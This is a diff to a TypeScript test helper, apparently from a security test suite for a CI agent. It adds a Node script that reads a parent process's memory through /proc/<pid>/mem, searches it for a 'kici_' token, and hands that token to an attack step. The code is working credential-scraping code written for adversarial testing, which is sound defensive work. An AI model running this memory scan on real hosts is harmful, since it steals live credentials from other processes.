@@ -42,9 +42,46 @@ export const THIEF_STEP = [
   'ATTACK_TOKEN="${found:-none}" "$ATTACK_NODE" -e "$ATTACK_SRC"',
 ].join('\n');
 
+/**
+ * Reads the memory of the process AGENT_PID through /proc/<pid>/mem and prints the first token in
+ * it (nothing when there is none, or the kernel refuses). A same-uid process may do this unless a
+ * security module (Yama's ptrace_scope) or a non-dumpable target forbids it, so whether it works
+ * depends on the host: the agent holds its token in memory to reconnect.
+ */
+const MEMORY_SCAN = `
+const fs = require('node:fs');
+const pid = process.env.AGENT_PID;
+let maps, fd;
+try {
+  maps = fs.readFileSync('/proc/' + pid + '/maps', 'utf8').split('\\n');
+  fd = fs.openSync('/proc/' + pid + '/mem', 'r');
+} catch (e) { console.error('memory thief: ' + e.code); process.exit(0); }
+for (const line of maps) {
+  const [range, perms] = line.split(' ');
+  if (!range || !perms.startsWith('r')) continue;
+  const [a, b] = range.split('-').map((x) => parseInt(x, 16));
+  if (b - a > 512 * 1024 * 1024) continue;
+  const buf = Buffer.alloc(b - a);
+  try { fs.readSync(fd, buf, 0, b - a, a); } catch { continue; }
+  const m = buf.toString('latin1').match(/kici_[A-Za-z0-9_-]{43}/);
+  if (m) { console.log(m[0]); process.exit(0); }
+}
+`;
+
+/**
+ * A sharper thief: the agent's token from the agent's memory, used as in THIEF_STEP. It prints
+ * whether it found one, never the token. Where the host lets it read, it holds a live token but not
+ * the agent's session proof.
+ */
+export const MEMORY_THIEF_STEP = [
+  'found=$(AGENT_PID=$PPID "$ATTACK_NODE" -e "$MEMORY_SCAN_SRC")',
+  'if [ -n "$found" ]; then echo "memory thief found: a token"; else echo "memory thief found: nothing"; fi',
+  'ATTACK_TOKEN="${found:-none}" "$ATTACK_NODE" -e "$ATTACK_SRC"',
+].join('\n');
+
 /** The thief job's environment: where to attack, and with what. */
 export function thiefEnv(wsUrl: string): Record<string, string> {
-  return { ATTACK_NODE: NODE, ATTACK_SRC: ATTACK, ATTACK_URL: wsUrl };
+  return { ATTACK_NODE: NODE, ATTACK_SRC: ATTACK, ATTACK_URL: wsUrl, MEMORY_SCAN_SRC: MEMORY_SCAN };
 }
 
 /** An orchestrator logger whose lines the test reads back, parsed and raw. */
